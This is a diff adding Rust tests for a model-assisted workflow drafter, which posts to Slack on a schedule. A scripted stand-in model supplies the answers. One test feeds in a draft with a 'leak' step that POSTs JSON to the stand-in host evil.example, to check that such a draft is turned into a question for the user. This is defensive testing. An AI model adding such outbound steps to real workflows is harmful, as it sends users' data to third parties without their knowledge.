@@ -1,0 +1,119 @@
+//! Drafting with a model, with written answers of one: a right draft, one that is mended, one that never holds, none at all.
+#![allow(clippy::unwrap_used)]
+
+#[path = "support/pages.rs"]
+mod pages;
+
+use std::future::Future;
+use std::pin::pin;
+use std::sync::Mutex;
+use std::task::{Context, Poll, Waker};
+
+use dsl::catalog::{Failure, FailureKind};
+use dsl::types::Field;
+use generate::draft::{Answer, Kind, Wish};
+use generate::index::Library;
+use generate::model::{Model, REPAIRS, Said, Took, draft_with};
+use generate::plan::Means;
+use generate::when::Here;
+use serde_json::{Value, json};
+
+/// Answers that were written down, one after the other; then none. It keeps what it was asked.
+struct Written {
+    answers: Mutex<Vec<Value>>,
+    asked: Mutex<Vec<(String, String)>>,
+}
+
+impl Written {
+    fn new(answers: &[Value]) -> Written {
+        Written { answers: Mutex::new(answers.iter().rev().cloned().collect()), asked: Mutex::default() }
+    }
+}
+
+impl Model for Written {
+    async fn ask(&self, system: &str, prompt: &str, _: &[Field]) -> Result<Said, Failure> {
+        self.asked.lock().unwrap().push((system.to_owned(), prompt.to_owned()));
+        match self.answers.lock().unwrap().pop() {
+            Some(value) => Ok(Said { value, tokens: 100 }),
+            None => Err(Failure::new(FailureKind::Auth, "there is no key for any model")),
+        }
+    }
+}
+
+/// What a future gives that waits for nobody.
+fn now<T>(work: impl Future<Output = T>) -> T {
+    let mut work = pin!(work);
+    match work.as_mut().poll(&mut Context::from_waker(Waker::noop())) {
+        Poll::Ready(value) => value,
+        Poll::Pending => panic!("it waits"),
+    }
+}
+
+fn asked(model: &Written, wish: &str) -> (Answer, Took) {
+    let catalog = pages::catalog();
+    let library = Library::new(&catalog);
+    let here = Here::new("2026-01-05T07:30:00Z".parse().unwrap(), "Europe/Berlin").unwrap();
+    let means = Means { catalog: &catalog, library: &library, connected: &[], here: &here, answers: &[] };
+    now(draft_with(&Wish { text: wish.into(), answers: vec![] }, &means, model))
+}
+
+fn drafted(yaml: &str) -> Value {
+    json!({ "kind": "draft", "yaml": yaml, "question": null, "choices": [], "reason": null, "assumptions": ["it is Slack"] })
+}
+
+const WISH: &str = "post \"Hi\" to #general in Slack every day at 8";
+const RIGHT: &str = "name: hi\ntriggers:\n  - cron: \"0 8 * * *\"\nsteps:\n  post: { use: slack.post_message, with: { channel: \"#general\", text: Hi } }\n";
+
+#[test]
+fn a_right_draft_is_taken_in_one_round() {
+    let model = Written::new(&[drafted(RIGHT)]);
+    let (answer, took) = asked(&model, WISH);
+    assert_eq!((answer.kind, took.rounds, took.tokens), (Kind::Draft, 1, 100));
+    assert_eq!(answer.yaml.as_deref(), Some(RIGHT.trim()));
+    assert_eq!(answer.assumptions, ["it is Slack"]);
+}
+
+#[test]
+fn the_problems_of_a_draft_go_back_to_the_model() {
+    let model = Written::new(&[drafted(&RIGHT.replace("post_message", "post_mesage")), drafted(RIGHT)]);
+    let (answer, took) = asked(&model, WISH);
+    assert_eq!((answer.kind, took.rounds), (Kind::Draft, 2));
+    let asked = model.asked.lock().unwrap();
+    assert!(asked[1].1.contains("post_mesage") && asked[1].1.contains("problems"), "{}", asked[1].1);
+}
+
+#[test]
+fn a_model_that_never_gives_a_right_draft_is_asked_no_more_than_told() {
+    let wrong = vec![drafted("name: x\nsteps: { a: { use: nobody.knows } }\n"); 10];
+    let model = Written::new(&wrong);
+    let (answer, took) = asked(&model, WISH);
+    assert_eq!(took.rounds, REPAIRS + 1);
+    assert_eq!(answer.kind, Kind::Draft, "{answer:?}");
+    assert!(answer.assumptions[0].contains("without a model"), "{:?}", answer.assumptions);
+}
+
+#[test]
+fn without_a_key_it_is_drafted_without_a_model_and_says_so() {
+    let (answer, took) = asked(&Written::new(&[]), WISH);
+    assert_eq!((answer.kind, took.rounds), (Kind::Draft, 0));
+    assert!(answer.assumptions[0].contains("no key"), "{:?}", answer.assumptions);
+}
+
+#[test]
+fn a_draft_that_would_act_unasked_becomes_a_question_and_is_not_sent_back() {
+    let evil = "name: x\nsteps:\n  leak: { http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } } }\n";
+    let model = Written::new(&[drafted(evil), drafted(RIGHT)]);
+    let (answer, took) = asked(&model, WISH);
+    assert_eq!((answer.kind, took.rounds), (Kind::Question, 1));
+    assert!(answer.question.unwrap().contains("evil.example"));
+}
+
+#[test]
+fn a_question_of_the_model_is_passed_on() {
+    let question = json!({ "kind": "question", "yaml": null, "question": "which channel?", "choices": ["#a", "#b"], "reason": null, "assumptions": [] });
+    let (answer, _) = asked(&Written::new(&[question]), WISH);
+    assert_eq!(
+        (answer.kind, answer.question.as_deref(), answer.choices.len()),
+        (Kind::Question, Some("which channel?"), 2)
+    );
+}
